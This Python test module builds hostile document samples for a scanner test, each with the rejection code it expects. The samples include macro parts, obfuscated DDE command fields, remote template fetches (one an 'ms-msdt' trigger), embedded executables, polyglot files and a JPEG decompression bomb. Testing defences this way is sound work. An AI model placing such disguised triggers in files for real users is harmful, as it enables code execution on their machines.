"""Papers that would act once somebody opens them, in the disguises that a look at the text alone does not see."""

from __future__ import annotations

import io
import zipfile
from types import MappingProxyType
from typing import TYPE_CHECKING

from PIL import Image

from tests.kit.hostile import (
    MAIN,
    W,
    docx,
    flate,
    paragraph,
    pdf_of,
    program_in_a_cell,
    relations,
    remote_template,
    xlsx,
    zipped,
)  # fmt: skip

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping


def related(kind: str, part: str, body: bytes | str = b"") -> bytes:
    """Give a docx whose text has one more part, by a relationship of this kind."""
    rows = relations(("r1", kind, part))
    return docx(paragraph("a"), extra={f"word/{part}": body, "word/_rels/document.xml.rels": rows})


def macro_sheet() -> bytes:
    """Give an xlsx one sheet of which is of macros, by its relationship alone."""
    rows = relations(("r1", "worksheet", "worksheets/sheet1.xml"), ("r2", "xlMacrosheet", "worksheets/sheet2.xml"))
    return xlsx("", **{"xl/_rels/workbook.xml.rels": rows, "xl/worksheets/sheet2.xml": f'<worksheet xmlns="{MAIN}"/>'})


def disguised_template(mode: str, encoding: str) -> bytes:
    """Give a docx that fetches its template, said in a way that a look at the bytes alone does not see."""
    row = relations(("r1", "attachedTemplate", "https://example.invalid/t.dotm"), mode=f' TargetMode="{mode}"')
    return docx(paragraph("a"), extra={"word/_rels/settings.xml.RELS": row.encode(encoding)})


def open_document(body: str) -> bytes:
    """Give an .odt of this text."""
    names = "".join(f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "text"))
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f"<office:document-content{names}><office:body><office:text>{body}"
            "</office:text></office:body></office:document-content>",
        }
    )


def locked() -> bytes:
    """Give an .odt with a password, as LibreOffice writes it: a part that is no XML, and a list that says so."""
    entry = '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
    space = 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    manifest = f"<manifest:manifest {space}>{entry}</manifest:manifest>"
    return zipped({"mimetype": f"{_ODF}.text", "content.xml": bytes(range(256)), "META-INF/manifest.xml": manifest})


def dde_in_a_header() -> bytes:
    """Give a docx whose header holds a DDE field in one element."""
    field = f'<w:hdr xmlns:w="{W}"><w:p><w:fldSimple w:instr=" ddeauto c:\\x"/></w:p></w:hdr>'
    return docx(paragraph("a"), extra={"word/header1.xml": field})


def quoted_dde() -> bytes:
    """Give a docx whose DDE field is written by the numbers of its characters, within another field."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>' for step in ("begin", "end"))
    inner = f"{begin}<w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 32 99 </w:instrText></w:r>{end}"
    return docx(f"<w:p>{begin}{inner}{end}</w:p>")


def two_faced_zip() -> bytes:
    """Give a docx one part of which is packed by its entry in the directory and plain by its own header."""
    body = bytearray(docx(paragraph("a")))
    body[8] = zipfile.ZIP_STORED
    return bytes(body)


def passes_without_end() -> bytes:
    """Give a JPEG that goes over one picture twenty thousand times (ITU-T T.81, G.1)."""
    target = io.BytesIO()
    Image.new("L", (3_000, 3_000), "white").save(target, "jpeg", progressive=True)
    body = target.getvalue()
    last = body.rindex(b"\xff\xda")
    return body[:-2] + body[last:-2] * 20_000 + body[-2:]


def picture_and_zip() -> bytes:
    """Give a file that is a PNG from its head and a zip from its tail."""
    target = io.BytesIO()
    Image.new("L", (9, 9), "white").save(target, "png")
    return target.getvalue() + zipped({"a.class": b"abc"})


def in_field(*pieces: str) -> bytes:
    """Give a docx with a field whose code is written in these runs."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>' for step in ("begin", "end"))
    code = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return docx(f"<w:p>{begin}{code}{end}</w:p>")


def chunk(body: bytes) -> bytes:
    """Give a docx whose text stands in a part of another form."""
    row = relations(("r1", "aFChunk", "a.rtf"))
    marks = '<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="r1"/>'
    return docx(marks, extra={"word/_rels/document.xml.rels": row, "word/a.rtf": body})


def named_program() -> bytes:
    """Give a sheet in which a name stands for a program."""
    return xlsx("", **{"xl/names.xml": f'<x xmlns="{MAIN}"><definedName name="a">cmd|\'/c calc\'!A0</definedName></x>'})


def in_place(kind: str, where: str) -> bytes:
    """Give an .odt with an element of this kind that stands in a file elsewhere."""
    return open_document(f'<text:p/><text:{kind} xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{where}"/>')


def through_text() -> bytes:
    """Give a PDF whose bytes went through a text decoder."""
    return pdf_of(flate(bytes(range(256)) * 40)).decode("utf-8", "replace").encode()


_ODF, _BROKEN = "application/vnd.oasis.opendocument", frozenset({"odf.broken"})
_RTF = rb"{\rtf1\ansi %s TO TRINH\par}"
_MACRO, _DDE, _PROGRAM = (frozenset({f"office.{code}"}) for code in ("macro", "dde", "program"))
_REMOTE, _TWO = frozenset({"office.remote_template"}), frozenset({"type.mismatch"})

# name -> (builder, name of the paper, codes it may be refused with), as `hostile.PAPERS`
PAPERS: Mapping[str, tuple[Callable[[], bytes], str, frozenset[str]]] = MappingProxyType(
    {
        "macro by another name": (lambda: related("vbaProject", "x.bin", b"a"), "a.docx", _MACRO),
        "macro sheet": (macro_sheet, "a.xlsx", _MACRO),
        "template by a program": (lambda: remote_template("ms-msdt:/id x"), "a.docx", _REMOTE),
        "program laid in": (lambda: related("package", "embeddings/x.bin", b"MZ" + b"\0" * 600), "a.docx", _PROGRAM),
        "template of an external by number": (lambda: disguised_template("Ext&#101;rnal", "utf-8"), "a.docx", _REMOTE),
        "template in utf-16": (lambda: disguised_template("External", "utf-16"), "a.docx", _REMOTE),
        "dde in a sheet by number": (lambda: program_in_a_cell("cmd&#x7c;&apos;/c calc&apos;!A0"), "a.xlsx", _DDE),
        "dde in an odt": (lambda: open_document("<text:p/><text:dde-connection-decls/>"), "a.odt", _DDE),
        "dde in a header": (dde_in_a_header, "a.docx", _DDE),
        "quoted dde": (quoted_dde, "a.docx", _DDE),
        "picture and zip": (picture_and_zip, "a.png", frozenset({"type.mismatch"})),
        "script behind a mark": (lambda: b"\xef\xbb\xbf#!/bin/sh\nls\n", "a.txt", frozenset({"type.forbidden"})),
        "settings that run": (lambda: b"<PCSettings/>", "a.SettingContent-ms", frozenset({"type.forbidden"})),
        "slides with macros": (lambda: b"text", "a.ppsm", _MACRO),
        "text of another machine": (lambda: in_field("INCLUDE", 'TEXT "https://e.invalid/a" '), "a.docx", _REMOTE),
        "link to another machine": (lambda: in_field(" LINK Word.Document.12 \\\\\\\\h\\\\a.docx"), "a.docx", _REMOTE),
        "value of another machine": (lambda: program_in_a_cell("_xlfn.WEBSERVICE(A1)"), "a.xlsx", _REMOTE),
        "value of a program": (lambda: program_in_a_cell('1+RTD("a.b",,"c")'), "a.xlsx", _REMOTE),
        "dde in a name": (named_program, "a.xlsx", _DDE),
        "section of another machine": (lambda: in_place("section-source", "https://e.invalid/a"), "a.odt", _REMOTE),
        "template by numbers": (
            lambda: _RTF % rb"{\*\template \u104?\u116?\'74\u-65424?s://e.invalid/a}",
            "a.rtf",
            _REMOTE,
        ),
        "template of a share": (lambda: _RTF % rb"{\*\template \\\\h\\a.dotm}", "a.rtf", _REMOTE),
        "dde letter by letter": (lambda: _RTF % rb"{\field{\*\fldinst {\b D}{DE} c:\\x y}}", "a.rtf", _DDE),
        "dde in a chunk": (lambda: chunk(_RTF % rb"{\field{\*\fldinst DDE c:\\x y}}"), "a.docx", _DDE),
        "program behind a paper": (lambda: pdf_of(flate(b"")) + b"\0" * 9 + b"MZ" + b"\0" * 99, "a.pdf", _TWO),
        "archive behind a paper": (lambda: pdf_of(flate(b"")) + b"Rar!\x1a\7\1\0" + b"\0" * 99, "a.pdf", _TWO),
        "drawing": (lambda: b'<?xml version="1.0"?><svg onload="a()"/>', "a.svg", frozenset({"type.unknown"})),
        "locked odt": (locked, "a.odt", frozenset({"office.encrypted"})),
        "broken ods": (lambda: zipped({"mimetype": f"{_ODF}.spreadsheet", "content.xml": "<a>"}), "a.ods", _BROKEN),
        "flat document": (lambda: b"<office:document xmlns:office='a'/>", "a.fodt", frozenset({"office.xml"})),
        "paper that went through text": (through_text, "a.pdf", frozenset({"file.decoded"})),
        "bag of nothing": (lambda: zipped({"a/": b""}), "a.zip", frozenset({"zip.empty"})),
        "two-faced zip": (two_faced_zip, "a.docx", frozenset({"zip.malformed"})),
    }
)
